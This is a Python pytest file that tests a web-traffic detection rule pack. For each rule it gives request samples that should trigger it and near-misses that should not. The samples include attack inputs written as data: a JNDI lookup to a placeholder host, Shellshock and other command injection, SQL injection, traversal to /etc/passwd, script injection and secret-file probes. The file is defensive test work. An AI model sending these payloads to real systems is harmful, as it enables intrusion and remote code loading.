"""Each rule: what fires it, what just misses it, and a client's first ordinary request."""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np
import pytest

from models.contracts import Action
from models.packs.access import PACK
from models.packs.access.events import AccessEvent
from models.rules import fire
from tests.unit.models.packs.access.judging import fired, folded, request

Stream = Sequence[AccessEvent]


def logins(n: int, every_s: float, pages: int = 0) -> Stream:
    """POSTs to a log-in page, each followed by some requests for other pages."""
    return [
        request("/account/login", method="POST", status=200, after_s=every_s * i)
        if j == 0
        else request(f"/page/{j}", after_s=every_s * i)
        for i in range(n)
        for j in range(pages, -1, -1)
    ]


def pages(n: int, every_s: float, status: int = 200, method: str = "GET") -> Stream:
    return [request(f"/p/{i}", after_s=every_s * i, status=status, method=method) for i in range(n)]


def same(n: int, every_s: float, status: int = 200) -> Stream:
    return [request("/page", after_s=every_s * i, status=status) for i in range(n)]


def browsing(n: int) -> Stream:
    """Pages, each with a picture, as a browser fetches them."""
    return [request(f"/p/{i}.jpg" if i % 2 else f"/p/{i}", after_s=10 * i) for i in range(n)]


GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"

FIRES: dict[str, list[Stream]] = {
    "expression_injection": [
        [request("/?x=$%7Bjndi:ldap://198.51.100.9/a%7D")],
        [request("/", agent="${jndi:ldap://198.51.100.9/a}")],
        [request("/?name={{7*7}}")],
    ],
    "command_injection": [
        [request("/ping?host=1.1.1.1;cat%20/etc/motd")],
        [request("/?a=1|id")],
        [request("/", agent="() { :;}; /bin/bash -c id")],
    ],
    "sql_injection": [
        [request("/item?id=1%27%20OR%201=1--")],
        [request("/item?id=1+UNION+SELECT+name+FROM+users")],
        [request("/item?id=1;WAITFOR DELAY '0:0:5'")],
    ],
    "path_traversal": [
        [request("/view?f=../../../../etc/passwd")],
        [request("/%2e%2e/%2e%2e/secret")],
        [request("/%252e%252e%252fsecret")],
    ],
    "cross_site_scripting": [
        [request("/?q=%3Cscript%3Ealert(1)%3C/script%3E")],
        [request("/?q=<IMG SRC=x onerror=f()>")],
    ],
    "scanner_agent": [[request(agent="sqlmap/1.7")], [request(agent="Mozilla/5.0 (Nikto/2.5)")]],
    "secret_file_probe": [[request("/.env", status=404)], [request("/.git/config", status=200)]],
    "known_weakness_probe": [[request("/wp-login.php", status=404)]],
    "repeated_probes": [
        [request(f"/wp-admin/{i}", status=404, after_s=3_600 * i) for i in range(3)]
    ],
    "scan_of_missing_pages": [pages(15, 30, status=404)],
    "login_bruteforce": [logins(15, 30), logins(25, 120, pages=1)],
    "password_guessing": [same(20, 20, status=401)],
    "request_flood": [same(600, 0.09)],
    "scraper": [pages(100, 30)],
    "error_burst": [same(10, 50, status=500)],
    "uncommon_method": [[request(method="PROPFIND")]],
}

MISSES: dict[str, list[Stream]] = {
    "expression_injection": [[request("/?price=$5&set={a}")], [request("/${WEBLOC}/view")]],
    "command_injection": [[request("/cats;id=4")], [request("/wget-and-curl?q=a|b")]],
    "sql_injection": [
        [request("/search?q=student+union+selection")],
        [request("/search?q=rock+%27n%27+roll")],
        [request("/search?q=O%27Reilly+or+1+more")],
    ],
    "path_traversal": [[request("/a/../b")], [request("/etc/motd")]],
    "cross_site_scripting": [[request("/?q=scripts+<3")], [request("/javascript:void(0)")]],
    "scanner_agent": [[request(agent="Mozilla/5.0 (SQL mapper)")]],
    "secret_file_probe": [[request("/.environment", status=404)]],
    "known_weakness_probe": [[request("/wp-login.php", status=200)]],
    "repeated_probes": [
        [request(f"/wp-admin/{i}", status=404, after_s=3_600 * i) for i in range(2)],
        [request(f"/wp-admin/{i}", status=404, after_s=13 * 3_600 * i) for i in range(3)],
    ],
    "scan_of_missing_pages": [
        pages(14, 30, status=404),
        same(30, 10, status=404),
        [*pages(16, 1), *pages(15, 30, status=404)],
    ],
    "login_bruteforce": [logins(14, 30), logins(24, 120, pages=1), logins(25, 120, pages=3)],
    "password_guessing": [same(19, 20, status=401)],
    "request_flood": [same(599, 0.09), same(600, 0.2)],
    "scraper": [
        pages(99, 30),
        browsing(220),
        [request(f"/p/{i}", after_s=30 * i, agent=GOOGLEBOT) for i in range(100)],
    ],
    "error_burst": [same(9, 50, status=500)],
    "uncommon_method": [[request(method="HEAD")]],
}


def cases(table: dict[str, list[Stream]]) -> list[object]:
    return [
        pytest.param(name, stream, id=f"{name}-{i}")
        for name, streams in table.items()
        for i, stream in enumerate(streams)
    ]


@pytest.mark.parametrize(("rule", "stream"), cases(FIRES))
def test_a_rule_fires(rule: str, stream: Stream) -> None:
    assert rule in fired(stream)


@pytest.mark.parametrize(("rule", "stream"), cases(MISSES))
def test_a_rule_stays_silent_just_short_of_it(rule: str, stream: Stream) -> None:
    assert rule not in fired(stream)


def test_every_rule_has_its_samples() -> None:
    names = {rule.name for rule in PACK.rules}

    assert set(FIRES) == names == set(MISSES)


@pytest.mark.parametrize(
    "path", ["/", "/blog/2025/union-of-tables?select=1", "/img/a.jpg", "/login", "/search?q=a+b"]
)
def test_all_rules_stay_silent_on_an_unseen_client(path: str) -> None:
    assert fired([request(path)]) == set()


def test_an_attack_in_the_first_request_is_blocked() -> None:
    attack = request("/../../etc/passwd?id=1%27%20OR%201=1--", status=404, agent="sqlmap/1.7")
    columns, feature = folded([attack])
    found = fire(PACK.rules, columns, feature)
    severity = (found * [int(rule.severity) for rule in PACK.rules]).max(axis=1)

    assert PACK.policy.actions(np.zeros(1), severity).tolist() == [Action.BLOCK]
    assert {"sql_injection", "path_traversal", "scanner_agent"} <= fired([attack])


def test_a_score_alone_never_blocks() -> None:
    actions = PACK.policy.actions(np.array([0.5, 0.97, 0.99, 1.0]), np.zeros(4, np.int64))

    assert actions.tolist() == [Action.ALLOW, Action.ALERT, Action.CHALLENGE, Action.CHALLENGE]
